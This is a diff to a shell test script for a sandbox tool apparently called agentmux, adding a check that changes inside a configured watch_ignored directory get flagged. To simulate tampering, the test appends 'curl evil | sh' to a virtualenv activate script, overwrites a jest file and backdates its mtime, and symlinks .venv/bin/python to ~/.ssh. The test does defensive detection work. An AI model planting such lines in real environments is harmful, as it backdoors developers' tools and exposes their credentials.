@@ -815,7 +815,8 @@ venv_link() {
 # file its link names, a tox env's bin): each one the session made,
 # changed (its mtime set back too) or removed is flagged in red with what
 # to do; one left alone is not, nor a venv the session made where there
-# was none.
+# was none. A dir [jail] watch_ignored names (a glob) is watched too,
+# its files, not those below.
 run_files() {
 	printf '.venv/\nnode_modules/\n.tox/\nvenv/\n' >"$P/.gitignore"
 	mkdir -p "$P/.venv/bin" "$P/node_modules/jest/bin" "$P/node_modules/.bin" \
@@ -828,7 +829,14 @@ run_files() {
 	echo 'run()' >"$P/node_modules/jest/bin/jest.js"
 	ln -s ../jest/bin/jest.js "$P/node_modules/.bin/jest"
 	echo t >"$P/.tox/py3/bin/pytest"
-	jrun -- sh -c "echo 'curl evil | sh' >>.venv/bin/activate &&
+	mkdir -p "$P/target/debug/deps"
+	echo app >"$P/target/debug/app"
+	echo dep >"$P/target/debug/deps/dep"
+	C=$XDG_CONFIG_HOME/agentmux/config
+	cp "$C" "$T/config.saved"
+	printf '[jail]\nwatch_ignored = target/debu[g]\n' >>"$C"
+	jrun -- sh -c "echo evil >target/debug/app && echo d >target/debug/deps/dep &&
+	    echo 'curl evil | sh' >>.venv/bin/activate &&
 	    echo 'evil()' >node_modules/jest/bin/jest.js &&
 	    touch -d 2001-01-01 node_modules/jest/bin/jest.js &&
 	    ln -sf '$HOME/.ssh' .venv/bin/python && rm .venv/bin/old &&
@@ -847,10 +855,14 @@ run_files() {
 	*) bad "run_files: the file a node_modules/.bin link names, changed with its mtime set back, was not flagged: $OUT" ;; esac
 	case $OUT in *".tox/py3/bin/pytest was changed in the session"*"tox -r"*) ok ;;
 	*) bad "run_files: a changed tox program was not flagged: $OUT" ;; esac
+	case $OUT in *"target/debug/app was changed in the session"*"build or install it again"*) ok ;;
+	*) bad "run_files: a program in a [jail] watch_ignored dir changed was not flagged: $OUT" ;; esac
+	case $OUT in *"target/debug/deps/dep "*) bad "run_files: a file below a watch_ignored dir was flagged: $OUT" ;; *) ok ;; esac
+	cp "$T/config.saved" "$C"
 	case $OUT in *".venv/bin/keep "*|*"venv/bin/activate was made"*) bad "run_files: an untouched program or a new venv was flagged: $OUT" ;; *) ok ;; esac
 	case $("$AMX" show last 2>&1) in *".venv/bin/activate was changed in the session"*) ok ;;
 	*) bad "run_files: show does not flag the changed activate" ;; esac
-	rm -rf "$P/.venv" "$P/node_modules" "$P/.tox" "$P/venv" "$P/.gitignore"
+	rm -rf "$P/.venv" "$P/node_modules" "$P/.tox" "$P/venv" "$P/target" "$P/.gitignore"
 }
 
 # A .git there before the session and unchanged (gitdir: ../gd/real),
